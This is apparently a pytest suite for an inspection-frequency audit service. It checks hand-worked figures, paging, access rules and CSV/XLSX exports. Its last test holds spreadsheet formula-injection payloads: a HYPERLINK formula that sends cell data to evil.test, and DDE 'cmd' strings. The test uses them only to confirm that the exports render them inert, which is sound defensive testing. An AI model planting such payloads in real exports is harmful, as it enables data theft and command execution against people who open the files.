"""The frequency audit on a small fixture whose figures are worked out by hand, on SQLite and
PostgreSQL: per enterprise, agency, county and city; pages; CSV and XLSX exports; access."""

from __future__ import annotations

import csv
import io
import re
from dataclasses import asdict
from typing import Any

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from conftest import EVE, Clock
from flows import check_in, login, published
from quietday.persistence import Engine, session_scope
from quietday.persistence.frequency import Subject
from quietday.persistence.tables import EnterpriseRow, RegionRow
from quietday.planning.frequency import frequency_page, live_rows, parse_period
from seed import AGENCIES, Seeded

A, B = AGENCIES["A"][0], AGENCIES["B"][0]


@pytest.fixture
def audited(fc: TestClient, world: Seeded, inspectors: None) -> Seeded:
    """Published in July 2026 (see `published`): E0 A+B on 07-21, E1 A's complaint case on
    07-22, E2 B+C on 07-23, E3 A alone on 07-24. Check-ins: A and B at E0 on 07-21, A's case
    at E1 on 07-22, A unplanned at E4 on a quiet day (07-10), A unplanned at E5 on 07-21, 22
    and 23 (the third over A's yearly cap of 2 and the monthly cap of 2)."""
    published(fc, world)
    for who, ent, day in [
        ("A", 0, "07-21"),
        ("B", 0, "07-21"),
        ("A", 1, "07-22"),
        ("A", 4, "07-10"),
        ("A", 5, "07-21"),
        ("A", 5, "07-22"),
        ("A", 5, "07-23"),
    ]:
        check_in(fc, world, who, ent, f"2026-{day}T09:00:00+08:00")
    return world


def rows(fc: TestClient, world: Seeded, by: str, period: str = "2026-07") -> dict[str, Any]:
    r = fc.get(
        "/api/v1/audit/frequency",
        params={"by": by, "period": period, "limit": 500},
        headers=world.auth(),
    )
    assert r.status_code == 200, r.text
    return {row["subject"]: row for row in r.json()["items"]}


def pick(row: dict[str, Any], *names: str) -> tuple[Any, ...]:
    return tuple(row[n] for n in names)


PLANNED = ("planned_visits", "planned_inspections", "planned_joint_visits", "planned_saved")
ACTUAL = ("actual_visits", "actual_inspections", "actual_joint_visits", "actual_saved")


def test_figures_per_enterprise(fc: TestClient, audited: Seeded) -> None:
    e = audited.enterprises
    got = rows(fc, audited, "enterprise")
    assert len(got) == 6
    assert pick(got[e[0]], *PLANNED, *ACTUAL) == (1, 2, 1, 1.0, 1, 2, 1, 1.0)
    assert got[e[0]]["planned_joint_rate"] == 1.0
    assert got[e[0]]["violations"] == 0
    assert pick(got[e[1]], "planned_case", "planned_special_case", "actual_case") == (1, 1, 1)
    assert pick(got[e[1]], "actual_special_case", "actual_normal", "violations") == (1, 0, 0)
    assert pick(got[e[3]], *PLANNED, *ACTUAL) == (1, 1, 0, 0.0, 0, 0, 0, 0.0)
    assert got[e[3]]["actual_joint_rate"] is None
    assert pick(got[e[4]], "violations", "quiet_day", "unplanned", "over_cap") == (1, 1, 1, 0)
    five = got[e[5]]
    assert pick(five, "actual_visits", "violations", "unplanned", "over_cap") == (3, 3, 3, 2)
    assert five["flags"] == {
        "cap_agency_enterprise_year": 1,
        "cap_enterprise_month": 1,
        "no_code": 3,
        "unplanned": 3,
    }
    assert pick(five, "cap_agency_year", "max_agency_days", "headroom_agency_year") == (2, 3, -1)
    assert pick(five, "cap_enterprise_year", "headroom_enterprise_year") == (None, None)


def test_figures_per_agency_county_and_city(fc: TestClient, audited: Seeded) -> None:
    agencies = rows(fc, audited, "agency")
    a, b = agencies[A], agencies[B]
    assert pick(a, *PLANNED) == (3, 3, 1, 0.5)
    assert pick(a, "planned_routine", "planned_case", "planned_joint_rate") == (2, 1, 0.3333)
    assert pick(a, *ACTUAL, "violations") == (6, 6, 1, 0.5, 4)
    assert pick(b, *PLANNED, *ACTUAL) == (2, 2, 2, 1.0, 1, 1, 1, 0.5)
    counties = rows(fc, audited, "county")
    assert pick(counties["360103"], *PLANNED, *ACTUAL) == (2, 3, 1, 1.0, 1, 2, 1, 1.0)
    assert pick(counties["360102"], *PLANNED, *ACTUAL) == (2, 3, 1, 1.0, 5, 5, 0, 0.0)
    assert counties["360102"]["violations"] == 4
    city = rows(fc, audited, "city")["3601"]
    assert pick(city, *PLANNED, *ACTUAL) == (4, 6, 2, 2.0, 6, 7, 1, 1.0)
    assert pick(city, "planned_joint_rate", "planned_normal", "planned_special_case") == (0.5, 5, 1)
    # The quarter and the year hold nothing else.
    assert rows(fc, audited, "city", "2026-Q3")["3601"] == {**city, "period": "2026-Q3"}
    assert rows(fc, audited, "city", "2026")["3601"] == {**city, "period": "2026"}
    assert rows(fc, audited, "city", "2026-06")["3601"]["actual_visits"] == 0


def test_pages_exports_and_access(fc: TestClient, audited: Seeded) -> None:
    seen: list[str] = []
    after: str | None = None
    while True:
        params: dict[str, Any] = {"period": "2026-07", "limit": 4}
        if after is not None:
            params["after"] = after
        page = fc.get("/api/v1/audit/frequency", params=params, headers=audited.auth()).json()
        seen += [r["subject"] for r in page["items"]]
        after = page["next_cursor"]
        if after is None:
            break
    assert seen == sorted(audited.enterprises)
    r = fc.get("/api/v1/audit/frequency.csv", params={"period": "2026-07"}, headers=audited.auth())
    assert r.status_code == 200
    assert r.headers["content-type"].startswith("text/csv")
    table = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert table[0][:4] == ["对象编码", "名称", "期间", "计划入企次数"]
    assert len(table) == 7
    by_subject = {line[0]: dict(zip(table[0], line, strict=True)) for line in table[1:]}
    assert by_subject[audited.enterprises[5]]["违规入企记录数"] == "3"
    r = fc.get(
        "/api/v1/audit/frequency.xlsx",
        params={"period": "2026-07", "by": "agency"},
        headers=audited.auth(),
    )
    sheet = load_workbook(io.BytesIO(r.content)).active
    assert sheet is not None
    values = list(sheet.iter_rows(values_only=True))
    header = list(values[0])
    line = next(v for v in values if v[0] == A)
    assert line[header.index("实际入企次数")] == 6
    # Supervisors only; a bad period names the field.
    denied = fc.get("/api/v1/audit/frequency", params={"period": "2026"}, headers=audited.auth("A"))
    assert denied.status_code == 403
    bad = fc.get("/api/v1/audit/frequency", params={"period": "2026-13"}, headers=audited.auth())
    assert bad.status_code == 422
    assert bad.json()["errors"][0]["path"] == "period"


def test_rollups_stay_equal_to_what_they_sum(
    fc: TestClient, audited: Seeded, engine: Engine, clock: Clock
) -> None:
    """Agency, county and city figures come from monthly rollups kept in step with every
    change: after a published plan is cancelled (its joint visit loses an agency; done before
    its date, as the record allows), an enterprise moves to another county and a late check-in
    moves a cap flag to July's second date, they equal the figures computed from the rows."""
    plans = fc.get(
        "/api/v1/plans", params={"status": "published"}, headers=audited.auth("B")
    ).json()["items"]
    joint_b = next(p for p in plans if p["enterprise_id"] == audited.enterprises[2])
    now, clock.now = clock.now, EVE
    r = fc.post(f"/api/v1/plans/{joint_b['id']}/cancel", headers=audited.auth("B"))
    assert r.status_code == 200
    clock.now = now
    r = fc.patch(
        f"/api/v1/enterprises/{audited.enterprises[5]}",
        json={"region_code": "360103"},
        headers=audited.auth(),
    )
    assert r.status_code == 200
    check_in(fc, audited, "A", 5, "2026-06-22T09:00:00+08:00")
    assert rows(fc, audited, "agency")[B]["planned_visits"] == 1
    assert rows(fc, audited, "county")["360103"]["actual_visits"] == 4
    with session_scope(engine) as s:
        for dim in ("agency", "county", "city"):
            for period in ("2026", "2026-Q3", "2026-07", "2026-06"):
                page = frequency_page(s, dim=dim, period=period, limit=500)
                subjects = [Subject(r.subject, r.name) for r in page.rows]
                live = live_rows(s, dim, subjects, parse_period(period))
                assert [asdict(r) for r in page.rows] == [asdict(r) for r in live], (dim, period)


def test_the_dashboard_shows_what_happened_and_exports_the_audit(
    fc: TestClient, audited: Seeded
) -> None:
    r = fc.get("/dashboard/exports/frequency.csv?period=2026-07", follow_redirects=False)
    assert r.status_code in (302, 303, 307)
    assert r.headers["location"].endswith("/dashboard/login")
    assert login(fc, audited.supervisor).status_code == 200
    page = fc.get("/dashboard?month=2026-07").text
    assert 'data-kpi="check-ins">6<' in page
    assert "违规 4 条(安静日 1、计划外 4、超频次 2)" in page
    r = fc.get("/dashboard/exports/frequency.csv?by=agency&period=2026-07")
    assert r.status_code == 200
    table = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    line = dict(zip(table[0], next(t for t in table if t[0] == A), strict=True))
    assert line["实际入企次数"] == "6"
    r = fc.get("/dashboard/exports/frequency.xlsx?by=city&period=2026")
    assert load_workbook(io.BytesIO(r.content)).active is not None


HOSTILE = {
    "enterprise": '=HYPERLINK("http://evil.test/?d="&A2,"详情")',
    "agency": "+cmd|' /C calc'!A0",
    "region": "@SUM(1+1)*cmd|' /C calc'!A0",
}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"^-?\d+(\.\d+)?$")  # a figure (headroom can be negative), not a formula


def test_exports_make_every_cell_inert(fc: TestClient, audited: Seeded, engine: Engine) -> None:
    """Names a user typed reach the CSV and XLSX exports (API and dashboard) as text that no
    spreadsheet evaluates: a CSV field never starts with = + - @ TAB or CR (OWASP: a leading
    apostrophe), an XLSX cell is never a formula; numbers stay numbers."""
    supervisor = audited.auth()
    renames = [
        (f"/api/v1/enterprises/{audited.enterprises[0]}", HOSTILE["enterprise"]),
        (f"/api/v1/agencies/{A}", HOSTILE["agency"]),
        (f"/api/v1/agencies/{B}", "-2+3"),
    ]
    for path, name in renames:
        assert fc.patch(path, json={"name": name}, headers=supervisor).status_code == 200
    # Names the API may refuse today, as older data can hold them, and regions (no API renames).
    with session_scope(engine, actor="cli") as s:
        for n, name in ((1, "\t=1+1"), (2, "\r=1+1")):
            row = s.get(EnterpriseRow, audited.enterprises[n])
            assert row is not None
            row.name = name
        region = s.get(RegionRow, "360102")
        assert region is not None
        region.name = HOSTILE["region"]
    assert login(fc, audited.supervisor).status_code == 200
    names: set[str] = set()
    for by in ("enterprise", "agency", "county"):
        query = {"by": by, "period": "2026-07"}
        for got in (
            fc.get("/api/v1/audit/frequency.csv", params=query, headers=supervisor),
            fc.get("/dashboard/exports/frequency.csv", params=query),
        ):
            assert got.status_code == 200
            table = list(csv.reader(io.StringIO(got.content.decode("utf-8-sig"), newline="")))
            fields = [f for line in table for f in line]
            assert not [f for f in fields if f.startswith(TRIGGERS) and not NUMBER.match(f)], by
            names |= {line[1] for line in table[1:]}
            assert table[1][table[0].index("计划入企次数")].isdigit()
        for got in (
            fc.get("/api/v1/audit/frequency.xlsx", params=query, headers=supervisor),
            fc.get("/dashboard/exports/frequency.xlsx", params=query),
        ):
            assert got.status_code == 200
            sheet = load_workbook(io.BytesIO(got.content)).active
            assert sheet is not None
            cells = [c for row in sheet.iter_rows() for c in row]
            assert [c.value for c in cells if c.data_type == "f"] == [], by
            # Marked as Excel marks '=… typed by hand, so editing the cell keeps it text.
            typed = [c for c in cells if isinstance(c.value, str) and c.value.startswith(TRIGGERS)]
            assert typed, by
            assert all(c.quotePrefix for c in typed), by
            names |= {str(row[1].value) for row in sheet.iter_rows(min_row=2)}
            header = [c.value for c in next(sheet.iter_rows(max_row=1))]
            assert isinstance(sheet.cell(2, header.index("计划入企次数") + 1).value, int)
    # The CSV keeps the text behind its apostrophe; the XLSX keeps it exactly.
    for name in (HOSTILE["enterprise"], HOSTILE["agency"], HOSTILE["region"], "-2+3"):
        assert {name, "'" + name} <= names
    # (XML reads a CR back as LF: the XLSX cell of "\r=1+1" reads "\n=1+1".)
    assert {"'\t=1+1", "\t=1+1", "'\r=1+1", "\n=1+1"} <= names
